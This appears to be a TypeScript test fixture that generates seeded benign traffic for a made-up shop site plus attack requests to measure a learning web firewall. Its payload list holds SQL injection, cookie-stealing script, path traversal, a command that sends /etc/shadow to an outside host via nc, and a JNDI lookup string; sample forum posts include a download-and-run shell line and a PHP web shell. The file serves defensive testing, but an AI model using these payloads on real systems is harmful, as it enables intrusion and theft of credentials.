/** Honest traffic of a made-up site, drawn from a seed, and attacks on it: what learning is measured by. */
import type { Ask } from '../../e2e/wire.ts';

const FORM = 'application/x-www-form-urlencoded';
const WORDS =
  'select shelf order kitchen union garden drop where blue from table lamp like insert coin update script book 搜索 桌子 und Größe the cat of house'.split(
    ' ',
  );

/** Mulberry32: the same numbers for the same seed. */
function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

class Draw {
  readonly #random: () => number;

  constructor(seed: number) {
    this.#random = randomOf(seed);
  }

  number(below: number): number {
    return Math.floor(this.#random() * below);
  }

  one<T>(choices: readonly T[]): T {
    return choices[this.number(choices.length)]!;
  }

  words(count: number): string {
    return Array.from({ length: count }, () => this.one(WORDS)).join(' ');
  }

  client(): string {
    return `198.51.100.${1 + this.number(40)}`;
  }
}

const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

function article(draw: Draw): string {
  const cell = draw.words(4);
  return draw.one([
    `<p>${cell}</p><img src="/media/${draw.number(999)}.jpg" onload="fit(this)"><a href="javascript:void(0)">${cell}</a>`,
    `<h2>${cell}</h2><iframe src="https://video.example/embed/${draw.number(999)}"></iframe><script>player(${draw.number(9)})</script>`,
    `<div style="color:#${draw.number(900000) + 99999}">${cell}</div><object data="/chart/${draw.number(99)}.svg"></object>`,
  ]);
}

/** A text in field 1, a number in field 2. */
function protobuf(text: string, number: number): string {
  const bytes = Buffer.from(text, 'utf8');
  return `\x0a${String.fromCharCode(bytes.length)}${text}\x10${String.fromCharCode(number)}`;
}

const SNIPPETS = [
  "```sql\nSELECT name FROM users WHERE id = 1 OR name = 'x' UNION SELECT password FROM admins;\n```",
  '```sh\ncat /etc/passwd | grep root; wget http://mirror.example/x.sh && bash x.sh\n```',
  '```php\n<?php echo system($_GET["c"]); ?>\n```',
];

/** By share: how often one of it comes, and the request. */
const KINDS: readonly (readonly [share: number, make: (draw: Draw) => Ask])[] = [
  // What most firewalls leave alone.
  [14, draw => ({ path: `/shop/list?q=${encodeURIComponent(draw.words(2))}&page=${draw.number(20)}` })],
  [
    6,
    draw => ({ path: `/shop/item/${draw.number(500)}`, headers: { Cookie: `session=${draw.number(1e9)}` } }),
  ],
  [
    6,
    draw => ({
      path: '/shop/order',
      method: 'POST',
      headers: { 'Content-Type': FORM },
      body: `name=${draw.number(99)}&note=${encodeURIComponent(draw.words(6)).replaceAll('%20', '+')}`,
    }),
  ],
  // Clients that are programs: types, methods and fields that a rule set does not expect.
  [
    12,
    draw => ({
      path: '/rpc/Catalog',
      method: 'POST',
      headers: { 'Content-Type': 'application/x-protobuf' },
      body: protobuf(draw.words(1), draw.number(9)),
    }),
  ],
  [
    10,
    draw => ({
      path: `/beacon/${draw.number(50)}`,
      method: 'POST',
      headers: { 'Content-Type': 'text/plain;charset=UTF-8' },
      body: JSON.stringify({ page: draw.number(99), ms: draw.number(9999) }),
    }),
  ],
  [
    8,
    draw => ({
      path: `/api/cart/${draw.number(500)}`,
      method: draw.one(['PATCH', 'PUT', 'DELETE']),
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ count: draw.number(9), note: draw.words(3) }),
    }),
  ],
  [
    5,
    draw => ({
      path: `/media/${draw.number(99)}`,
      method: 'POST',
      headers: { 'Content-Type': FORM, 'Content-Range': `bytes 0-99/${1000 + draw.number(9000)}` },
      body: `part=${draw.number(99)}`,
    }),
  ],
  // People who write markup and code.
  [
    6,
    draw => ({
      path: `/cms/page/${draw.number(200)}`,
      method: 'POST',
      headers: { 'Content-Type': FORM },
      body: `title=${draw.number(99)}&content=${encodeURIComponent(article(draw))}`,
    }),
  ],
  [
    3,
    draw => ({
      path: '/forum/post',
      method: 'POST',
      headers: { 'Content-Type': FORM },
      body: `text=${encodeURIComponent(`${draw.words(5)}\n${draw.one(SNIPPETS)}`)}`,
    }),
  ],
];

const TOTAL = KINDS.reduce((sum, [share]) => sum + share, 0);

function kindAt(point: number): (draw: Draw) => Ask {
  let left = point;
  for (const [share, make] of KINDS) {
    if (left < share) return make;
    left -= share;
  }
  throw new RangeError(`Cannot draw a request: ${point} is beyond all shares`);
}

const BROWSER = {
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  Accept: '*/*',
  Host: 'shop.example',
};

export const clientField = 'X-Client';

const from = (client: string, ask: Ask): Ask => ({
  ...ask,
  path: latin1(ask.path ?? '/'),
  headers: { ...BROWSER, [clientField]: client, ...ask.headers },
  ...(ask.body !== undefined && { body: latin1(ask.body) }),
});

export function benign(seed: number, count: number): Ask[] {
  const draw = new Draw(seed);
  return Array.from({ length: count }, () => from(draw.client(), kindAt(draw.number(TOTAL))(draw)));
}

const PAYLOADS = [
  "1' UNION SELECT password FROM users-- -",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  ';cat /etc/shadow|nc 203.0.113.9 9',
  '${jndi:ldap://203.0.113.9/a}',
  "' OR '1'='1",
];

const ways = (payload: string): Ask[] => {
  const value = encodeURIComponent(payload);
  const type = { 'Content-Type': FORM };
  return [
    { path: `/shop/list?q=${value}` },
    { path: `/shop/list?page=${value}` },
    { path: '/shop/order', method: 'POST', headers: type, body: `note=${value}` },
    { path: '/cms/page/1', method: 'POST', headers: type, body: `title=${value}` },
    { path: '/cms/page/1', method: 'POST', headers: type, body: `other=${value}` },
    { path: '/forum/post', method: 'POST', headers: type, body: `author=${value}` },
    {
      path: '/api/cart/1',
      method: 'PATCH',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ count: payload }),
    },
    {
      path: `/rpc/Catalog?x=${value}`,
      method: 'POST',
      headers: { 'Content-Type': 'application/x-protobuf' },
      body: 'x',
    },
    { path: '/', headers: { Cookie: `session=${value}` } },
  ];
};

/** Each payload in each place, of several clients who try them all. */
export const attacks = (): Ask[] =>
  PAYLOADS.flatMap(ways).flatMap(ask => [1, 2, 3, 4, 5, 6].map(number => from(`203.0.113.${number}`, ask)));
